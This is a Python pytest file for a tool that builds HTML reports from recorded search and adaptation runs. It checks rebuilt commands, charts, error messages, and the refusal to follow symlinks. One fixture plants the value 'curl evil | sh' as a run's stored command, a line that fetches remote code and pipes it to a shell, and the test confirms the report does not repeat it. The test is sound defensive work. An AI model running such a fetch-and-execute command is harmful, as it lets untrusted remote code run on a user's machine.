"""`python -m adapt report`, on records as the commands write them."""

import shlex
import shutil
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from das_gym.adapt.commands import PROGRAM
from das_gym.adapt.das_experiment import search_charts
from das_gym.adapt.run_report import run_report, search_report
from das_gym.agents.run_commands import search
from das_gym.agents.searching.record import SearchResult

from das_gym.commands.recorded import required_folder
from das_gym.drawing.architecture import Architecture
from das_gym.drawing.report import Answers, Question, RunReport, Table
from das_gym.files import write_json
from das_gym.problem.config import ProblemConfig
from das_gym.registration import ASSETS
from das_gym.tables.table import SubnetTable

MASK = [0, 1, 0, 1, 0, 0, 0, 0, 1, 0, 0, 1]
NAMES = [f"{stream}.{i}" for stream in ("text", "image") for i in range(6)]
TABLE = Table(("", "full"), (("loss", "0.1"),), "80 test examples", ("a note",))


def write_run(folder: Path, name: str, config: dict[str, Any], search_run: int | None = None, **record: Any) -> None:
    """Write the files of a run that skipped `MASK`."""
    report = RunReport("a title", {"skips": "text.1"}, Architecture.from_names(NAMES), MASK, TABLE).record()
    problem = asdict(ProblemConfig())
    record = {
        "settings": {"search_run": search_run},
        "problem": problem,
        "report": report,
        "versions": {"python": "3"},
        **record,
    }
    write_json(folder / "run.json", {})
    write_json(folder / "config.json", {"problem": problem, **config})
    write_json(folder / name, record)


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> Path:
    """Run 1 is a search, run 2 `adapt` after it, run 3 `adapt das`, run 4 `adapt shrink`, run 5 `adapt compare`."""
    folder = tmp_path_factory.mktemp("reported")
    search.run({"env_id": "DAS-METER-VQA-Tabular-v0", "agent": "random", "evaluations": 6, "runs_dir": str(folder)})
    write_run(folder / "2", "adapt.json", {"steps": 20, "search_run": 1, "search": {}, "seed": 0}, search_run=1)
    write_run(folder / "3", "das.json", {"das": {"skip_num": 3}, "seed": 0})
    problem = {"model": "VLM", "task": "answering", "checkpoint": "/models/big"}
    write_run(folder / "4", "shrink.json", {"macs_saved": 0.2}, problem=problem, command="curl evil | sh")
    searched = {"skip_nums": [4], "search": {"evaluations": 24}}
    write_run(folder / "5", "compare.json", {"seeds": 2, **searched})
    return folder


def test_report_of_adapt_includes_its_search(runs):
    report = run_report(runs / "2")
    assert (report.name, report.title, report.mask, report.table) == ("run 2", "a title", MASK, TABLE)
    assert report.facts["search: masks scored"] == "6"
    assert len(report.progress.rewards) == 6
    table = SubnetTable.load(ASSETS / "meter_mini/vqa_table.npz")
    shares = table.layer_macs.savings / table.meta.macs_full
    assert [unit.share for unit in report.architecture.units] == pytest.approx(shares.tolist())  # from the search
    search, own = report.commands
    assert "agent=random" in search
    assert own == "das-adapt with steps=20 'mask=[0,1,0,1,0,0,0,0,1,0,0,1]'"


@pytest.mark.parametrize(
    ("run", "command"),
    [
        ("3", "das-adapt das with skip_num=3"),
        ("4", f"das-adapt shrink with checkpoint=/models/big 'mask={str(MASK).replace(' ', '')}'"),  # not its own
        ("5", "das-adapt compare with seeds=2 'skip_nums=[4]' evaluations=24"),
    ],
)
def test_report_has_the_command_that_repeats_the_run(runs, run, command):
    assert run_report(runs / run).commands == [command]


def test_report_includes_examples(runs):
    assert run_report(runs / "2").answers is None
    kept = Answers(["full model", "subnet"], [(Question("what is it?", "an owl"), ["an owl", "a cat"])], "one")
    path = runs / "2" / "examples.json"
    write_json(path, asdict(kept))
    assert run_report(runs / "2").answers == kept
    path.unlink()


def test_charts_of_das():
    turn = {"rewards": [0.2, 0.3], "preferences": [0.0] * 12}
    charts = search_charts([turn, turn])
    assert (charts["progress"].rewards, charts["progress"].best) == ([0.2, 0.3, 0.2, 0.3], [0.2, 0.3, 0.3, 0.3])
    assert charts["heat"].values == [[0.5] * 12] * 2


def test_report_command_of_several_runs(runs, capsys):
    assert PROGRAM.run(["report", "2", "with", f"runs_dir={runs}"]) == 0
    assert (runs / "2/report.html").is_file()
    assert PROGRAM.run(["report", "2", "3", "with", f"runs_dir={runs}"]) == 0
    assert "report_2_3.html (" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("words", "message"),
    [(["9"], "has no report"), (["8"], "damaged"), (["7"], "no run '7'"), ([], "`runs`"), (["nowhere"], "nowhere")],
)
def test_report_rejects_unknown_and_damaged_records(runs, capsys, words, message):
    write_run(runs / "9", "other.json", {})
    write_run(runs / "8", "shrink.json", {}, report={"title": "x"})
    assert PROGRAM.run(["report", *words, "with", f"runs_dir={runs}"]) == 1
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    ("run", "linked"), [("4", "4/config.json"), ("4", "4/shrink.json"), ("1", "1/search.json"), ("2", "1/config.json")]
)
def test_report_follows_no_links(runs, tmp_path, run, linked):
    shutil.copytree(runs, tmp_path / "runs")
    (tmp_path / "runs" / linked).rename(tmp_path / "private.json")
    (tmp_path / "runs" / linked).symlink_to(tmp_path / "private.json")
    with pytest.raises(ValueError, match="is a link"):
        run_report(tmp_path / "runs" / run)


@pytest.mark.parametrize(("out", "message"), [("/proc/x", "not writable"), (".", "a folder")])
def test_report_names_a_place_where_no_file_can_be_written(runs, capsys, out, message):
    assert PROGRAM.run(["report", "2", "with", f"runs_dir={runs}", f"out={out}"]) == 1
    assert f"`out` is {message}: got {out}" in capsys.readouterr().err


def search_on(table: Path, folder: Path, **settings) -> Path:
    """Search on a table, and return the folder of the run."""
    env_kwargs = {"table": str(table), **settings.pop("env_kwargs", {})}
    fixed = {"env_id": "DAS-METER-VQA-Tabular-v0", "env_kwargs": env_kwargs, "runs_dir": str(folder), "seed": 4}
    return required_folder(search.run({**fixed, **settings}))


def test_report_matches_record_and_table(made_up_table, tmp_path):
    folder = search_on(made_up_table, tmp_path, agent="bandit", evaluations=30, skip_num=3)
    result, table, told = SearchResult.load(folder), SubnetTable.load(made_up_table), search_report(folder)
    assert told.mask == result.mask.tolist()
    assert told.facts["skips"] == ", ".join(result.skipped_layers)
    rewards = [reward for turn in result.history for reward in turn.rewards]
    assert told.progress.rewards == rewards
    np.testing.assert_allclose(told.progress.best, np.maximum.accumulate(rewards))
    assert told.heat.values[-1] == pytest.approx(result.history[-1].skip_probabilities, abs=1e-4)
    assert told.cost.landed == (result.macs_saved, result.loss)
    assert len(told.cost.others) == 256
    assert list(told.statistics) == list(table.meta.statistics)
    saved = table.layer_macs.savings / table.meta.macs_full
    assert [unit.share for unit in told.architecture.units] == pytest.approx(np.maximum(saved, 0).tolist())
    assert told.table.rows[-1][2] == f"{100 * result.macs_saved:.1f}"


def test_report_command_reproduces_the_search(made_up_table, tmp_path):
    costs = {"parameters_saved": {"full": 100.0, "unskipped": 100.0, "savings": [10.0] * 8}}
    settings = {"parameters_saved": 0.2, "agent": "random", "evaluations": 5}
    told = search_report(search_on(made_up_table, tmp_path, env_kwargs={"costs": costs}, **settings))
    assert told.facts["budget"] == "parameters_saved=0.2"
    assert shlex.split(told.commands[0])[:3] == ["das-agents", "with", "agent=random"]
    words = {word for word in shlex.split(told.commands[0]) if not word.startswith("env_kwargs.costs")}
    assert {"parameters_saved=0.2", "evaluations=5", f"env_kwargs.table={made_up_table}", "seed=4"} <= words
